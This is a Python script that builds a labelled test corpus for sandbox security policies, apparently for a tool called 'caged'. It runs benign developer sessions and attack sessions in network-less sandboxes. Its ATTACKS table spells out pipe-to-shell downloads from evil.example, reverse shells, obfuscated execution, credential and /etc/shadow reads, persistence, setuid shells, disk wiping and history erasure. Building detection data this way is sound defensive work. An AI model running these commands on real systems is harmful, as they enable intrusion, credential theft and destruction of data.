#!/usr/bin/env python3
"""Records the labelled sessions of tests/policies/corpus: real work and real attacks, run in real sandboxes.

usage: record_corpus.py BUILD_FOLDER OUT_FOLDER

Every session is a sandbox of its own without network; the attacks are real, their effect ends with the sandbox.
What is kept of a session are the facts policies look at.
"""

import json
import os
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.request

KEPT = {"command", "file_op", "network", "package"}
DROPPED = {"key", "process", "exit", "usage", "witness", "transport", "out_of_memory"}

# ---- work: (name, steps); {n} is the number of the variant

WORK = {
    "c-make": [
        "mkdir -p src && for i in $(seq 1 {n}); do echo \"int f$i(void){{return $i;}}\" > src/f$i.c; done",
        "printf 'OBJS=$(patsubst %%.c,%%.o,$(wildcard src/*.c))\\nlib.a: $(OBJS)\\n\\tar rcs $@ $^\\n' > Makefile",
        "make -j2", "touch src/f1.c && make", "nm lib.a | head", "make -n",
    ],
    "c-run": ["printf '#include <stdio.h>\\nint main(){{puts(\"v{n}\");return 0;}}\\n' > m.c", "gcc -Wall -O1 m.c -o m", "./m", "strip m && ./m", "ldd m"],
    "git-flow": [
        "git init -q . && git config user.email a@example.org && git config user.name A",
        "for i in $(seq 1 {n}); do echo $i > f$i && git add -A && git commit -qm \"c $i\"; done",
        "git log --oneline | head", "git checkout -qb topic && echo x >> f1 && git commit -qam topic", "git checkout -q - && git merge -q topic",
        "git diff HEAD~1 --stat", "git status --porcelain",
    ],
    "python-tests": [
        "mkdir -p pkg tests && echo 'def add(a, b): return a + b' > pkg/m.py && touch pkg/__init__.py",
        "printf 'import unittest\\nfrom pkg.m import add\\nclass T(unittest.TestCase):\\n def test(self): self.assertEqual(add({n},1),{n}+1)\\n' > tests/test_m.py && touch tests/__init__.py",
        "python3 -m unittest -q", "python3 -c 'import pkg.m; print(pkg.m.add(1,{n}))'", "python3 -m compileall -q pkg",
    ],
    "text-tools": ["seq 1 {n}00 > a.txt", "grep -c 1 a.txt; sed -i s/1/one/ a.txt; awk '{{print NF}}' a.txt | sort | uniq -c", "sort -r a.txt | head -3 > b.txt && diff a.txt b.txt | wc -l",
                   "tr a-z A-Z < a.txt > c.txt; wc -l *.txt; rm c.txt"],
    "archive": ["mkdir d && for i in $(seq 1 {n}); do echo $i > d/$i; done", "tar czf d.tgz d && tar tzf d.tgz | wc -l", "rm -r d && tar xzf d.tgz && ls d | wc -l", "sha256sum d.tgz > sum && sha256sum -c sum"],
    "shell-script": ["printf '#!/bin/sh\\nset -e\\nfor i in $(seq 1 {n}); do echo line $i; done > out\\n' > run.sh && chmod +x run.sh", "./run.sh && wc -l out", "bash -n run.sh", "cp out out.bak && mv out.bak out.1"],
    "clean-build": ["mkdir -p build/obj && touch build/obj/a{n}.o build/obj/b.o", "rm -rf build && mkdir build", "ls -la && find . -name '*.o' -delete", "du -sh . && df -h . | tail -1"],
    "python-venv": ["python3 -m venv --without-pip .venv && .venv/bin/python -c 'import sys; print(sys.prefix, {n})'", "ls .venv/bin | head", "echo 'x={n}' > settings.py && .venv/bin/python settings.py"],
    "json-edit": ["echo '{{\"name\":\"p{n}\",\"version\":\"1.0.{n}\"}}' > package.json", "python3 -c 'import json;d=json.load(open(\"package.json\"));d[\"x\"]={n};json.dump(d,open(\"package.json\",\"w\"))'", "cat package.json | python3 -m json.tool"],
    "look-around": ["uname -a; id -un; pwd; env | grep -c PATH", "ls /usr/bin | wc -l; which gcc make git python3", "cat /etc/os-release | head -2; nproc; free -m | head -2; ps aux | wc -l", "date +%{n}s; hostname; ulimit -n"],
    "docs": ["mkdir -p docs && for i in $(seq 1 {n}); do printf '# Page %s\\n\\nText.\\n' $i > docs/p$i.md; done", "grep -rn Page docs | head -3; wc -w docs/*.md | tail -1", "sed -i 's/Text/Better text/' docs/*.md && head -3 docs/p1.md"],
    "debugging": ["printf 'def f(n):\\n  return 10//n\\nprint(f({n}))\\nprint(f(0))\\n' > bug.py", "python3 bug.py || echo failed as expected", "sed -i 's/print(f(0))//' bug.py && python3 bug.py", "python3 -m pdb -c c -c q bug.py < /dev/null | tail -2"],
    "local-server": ["echo hello{n} > index.html", "python3 -m http.server 80{n}0 --bind 127.0.0.1 > log 2>&1 & echo $! > pid; sleep 0.4; python3 -c 'import urllib.request as u;print(u.urlopen(\"http://127.0.0.1:80{n}0/index.html\").read())'; kill $(cat pid)"],
}

# ---- attacks: rule → variants; each variant is one session

ATTACKS = {
    "pipe_to_shell": [
        "curl -s http://evil.example/{n} | sh", "wget -qO- http://evil.example/{n} | bash", "bash <(curl -s http://evil.example/{n})", "sh -c \"$(curl -fsSL http://evil.example/{n})\"",
        "curl http://evil.example/{n} | sudo bash", "u=http://evil.example/{n}; curl -s $u | tee /tmp/x | sh", "eval \"$(wget -qO- http://evil.example/{n})\"", "curl -s http://evil.example/{n} | python3 -",
        "bash -c 'curl -s http://evil.example/{n} | env A=1 sh'", "curl -s http://evil.example/{n} | base64 -d | bash", "source <(curl -s http://evil.example/{n})", "c=curl; $c -s http://evil.example/{n} | s=1 sh",
    ],
    "hidden_code": [
        "echo ZWNobyBoYWNrZWQ{n} | base64 -d | sh", "printf 'ZWNobyBoaQo=' | base64 --decode | bash # {n}", "python3 -c \"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\" # {n}", "echo 6563686f206869 | xxd -r -p | sh # {n}",
        "bash -c \"$(echo ZWNobyBoaQ== | base64 -d)\" # {n}", "eval $(echo ZWNobyBoaQ== | base64 -d) # {n}", "echo ih ohce | rev | sh # {n}", "python3 -c \"exec(bytes.fromhex('7072696e74283129'))\" # {n}",
    ],
    "reverse_shell": [
        "bash -c 'bash -i >& /dev/tcp/203.0.113.{n}/4444 0>&1' || true", "nc -e /bin/sh 203.0.113.{n} 4444 || true", "rm -f /tmp/f; mkfifo /tmp/f; timeout 1 sh -c 'cat /tmp/f | sh -i 2>&1 | nc 203.0.113.{n} 4444 > /tmp/f' || true",
        "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.{n}\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")' || true", "timeout 1 socat TCP:203.0.113.{n}:4444 EXEC:/bin/sh || true",
        "perl -e 'use Socket;$i=\"203.0.113.{n}\";socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in(4444,inet_aton($i)))){{open(STDIN,\">&S\");exec(\"/bin/sh -i\");}}' || true",
        "timeout 1 sh -i >& /dev/tcp/203.0.113.{n}/9001 0>&1 || true",
    ],
    "crypto_miner": ["xmrig -o stratum+tcp://pool.example:333{n} || true", "./xmrig --donate-level 1 --url pool.example:443{n} || true", "cp /bin/true minerd && ./minerd -a cryptonight -o stratum+tcp://p.example:{n} || true", "cpuminer -a sha256d -o stratum+tcp://pool{n}.example:3333 || true",
                     "nohup ./xmr-stak -O pool.example:{n} -u wallet || true"],
    "account_files": ["cat /etc/shadow || true # {n}", "cp /etc/passwd p{n}", "python3 -c 'print(len(open(\"/etc/passwd\").read()),{n})'", "grep root /etc/passwd # {n}", "base64 /etc/shadow || true # {n}", "awk -F: '{{print $1}}' /etc/passwd # {n}"],
    "secret_read": ["mkdir -p ~/.ssh && echo k{n} > ~/.ssh/id_rsa; cat ~/.ssh/id_rsa", "mkdir -p ~/.aws && echo k > ~/.aws/credentials; cat ~/.aws/credentials # {n}", "echo T={n} > .env; cat ~/.netrc /root/.git-credentials || true", "mkdir -p ~/.docker; echo {{}} > ~/.docker/config.json; base64 ~/.docker/config.json # {n}",
                    "mkdir -p ~/.kube; echo x{n} > ~/.kube/config; cat ~/.kube/config"],
    "system_files": ["cp /bin/true /usr/bin/ls{n} && cp /bin/true /usr/bin/ls", "echo 127.0.0.1 x{n} >> /etc/hosts", "echo 'a ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers # {n}"],
    "persistence": ["mkdir -p ~/.ssh && echo 'ssh-rsa AAA{n} e' >> ~/.ssh/authorized_keys", "echo '* * * * * root id' > /etc/cron.d/job{n} || (mkdir -p /etc/cron.d; echo '* * * * * root id' > /etc/cron.d/job{n})", "echo 'curl x' >> ~/.bashrc # {n}", "mkdir -p ~/.config/systemd/user && printf '[Service]\\nExecStart=/tmp/x\\n' > ~/.config/systemd/user/e{n}.service",
                    "echo 'x{n}' >> /etc/profile", "sed -i s/a/b/ /etc/bash.bashrc # {n}", "echo /tmp/e{n}.so > /etc/ld.so.preload",
                    "(crontab -l; echo '* * * * * /tmp/e{n}') | crontab - || true"],
    "setuid": ["cp /bin/sh rootsh{n} && chmod u+s rootsh{n}", "cp /bin/true t{n} && chmod 4755 t{n}", "install -m 4755 /bin/true s{n}", "cp /bin/true c{n}; setcap cap_setuid+ep c{n} || true"],
    "destructive_delete": ["rm -rf /etc /var/log{n} 2>/dev/null || true", "rm -rf --no-preserve-root / --one-file-system 2>/dev/null & sleep 0.3; kill %1 || true # {n}", "find / -xdev -name 'nosuch{n}' -delete 2>/dev/null || true", "rm -rf ~ 2>/dev/null || true # {n}", "dd if=/dev/zero of=/dev/sda bs=1 count={n} || true"],
    "cover_tracks": ["history -c; rm -f ~/.bash_history # {n}", "unset HISTFILE; export HISTSIZE=0 # {n}", "ln -sf /dev/null ~/.bash_history # {n}", "shred -u ~/.bash_history || true # {n}"],
    "host_namespace": ["nsenter -t 1 -m -u -n -p true || true # {n}", "unshare -m true || true # {n}", "mount --bind / /mnt || true # {n}", "nsenter --target 1 --all sh -c 'echo {n}' || true"],
    "secret_variable": ["env | grep -i token{n} || true; printenv AWS_SECRET_ACCESS_KEY || true", "echo $GITHUB_TOKEN{n}; echo $GITHUB_TOKEN", "python3 -c 'import os;print(os.environ.get(\"OPENAI_API_KEY\"),{n})'", "printenv ANTHROPIC_API_KEY || true # {n}"],
    "download_then_run": ["curl -s -o /tmp/p{n}.sh http://evil.example/x; echo id > /tmp/p{n}.sh; sh /tmp/p{n}.sh", "wget -q http://evil.example/x -O i{n}.sh || echo true > i{n}.sh; chmod +x i{n}.sh; ./i{n}.sh || true", "curl -so t{n} http://evil.example/t || true; echo 'print(1)' > t{n}; python3 t{n}"],
    "keys_made": ["ssh-keygen -q -t ed25519 -N '' -f k{n} || true", "openssl genrsa -out key{n}.pem 2048", "openssl req -x509 -newkey rsa:2048 -nodes -keyout k.pem -out c{n}.pem -subj /CN=x"],
}
VARIANTS_OF_WORK = 11
VARIANTS_OF_ATTACKS = 2


class Host:
    def __init__(self, build):
        self.folder = tempfile.mkdtemp(prefix="caged-corpus-")
        self.process = subprocess.Popen([os.path.join(build, "bin", "caged"), "serve", "--listen", "127.0.0.1:0", "--data", self.folder],
                                        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        file = os.path.join(self.folder, "server.json")
        while not os.path.exists(file):
            time.sleep(0.1)
        self.address = json.load(open(file))["address"]
        self.key = open(os.path.join(self.folder, "admin.key")).read().strip()

    def call(self, method, target, body=None):
        request = urllib.request.Request(self.address + target, method=method, data=None if body is None else json.dumps(body).encode())
        request.add_header("Authorization", "Bearer " + self.key)
        request.add_header("Content-Type", "application/json")
        with urllib.request.urlopen(request, timeout=120) as answer:
            text = answer.read()
        return json.loads(text) if text else None

    def record(self, steps):
        # A pause by the shipped policies would cut the recording short: what they say is asked again in the test.
        box = self.call("POST", "/v1/sandboxes", {"wait": True})
        target = "/v1/sandboxes/" + box["id"]
        for step in steps:
            try:
                self.call("POST", target + "/exec", {"command": step, "timeout": 20})
            except urllib.error.HTTPError:
                break
        time.sleep(0.3)
        events = self.call("GET", f"/v1/sessions/{box['session_id']}/replay?limit=1000")["events"]
        try:
            self.call("DELETE", target)
        except urllib.error.HTTPError:
            pass  # a policy was quicker
        return [compact(e) for e in events if e["type"] in KEPT and not ended(e)]

    def stop(self):
        self.process.terminate()
        self.process.wait()
        subprocess.run(["rm", "-rf", self.folder], check=False)


def ended(event):
    data = event["data"]
    return data.get("phase") == "finished" and not (data.get("source") == "exec" and "argv" in data)


def compact(event):
    data = {k: v for k, v in event["data"].items() if k not in DROPPED}
    return {"type": event["type"], "timestamp": event["timestamp"], "data": data}


def write(file, rows):
    with open(file, "w", encoding="utf-8") as out:
        for row in rows:
            out.write(json.dumps(row, separators=(",", ":"), ensure_ascii=False) + "\n")
    print(f"{file}: {len(rows)} sessions, {sum(len(r['events']) for r in rows)} events, {os.path.getsize(file) // 1024} KiB")


def main():
    build, out = sys.argv[1:3]
    os.makedirs(out, exist_ok=True)
    host = Host(build)
    try:
        benign, harmful = [], []
        for n in range(1, VARIANTS_OF_WORK + 1):
            for name, steps in WORK.items():
                benign.append({"name": f"{name}-{n}", "rules": [], "events": host.record([s.format(n=n) for s in steps])})
        write(os.path.join(out, "benign.jsonl"), benign)
        for n in range(1, VARIANTS_OF_ATTACKS + 1):
            for rule, variants in ATTACKS.items():
                for i, attack in enumerate(variants):
                    harmful.append({"name": f"{rule}-{i}-{n}", "rules": [rule], "events": host.record([attack.format(n=n)])})
        write(os.path.join(out, "harmful.jsonl"), harmful)
    finally:
        host.stop()


if __name__ == "__main__":
    main()
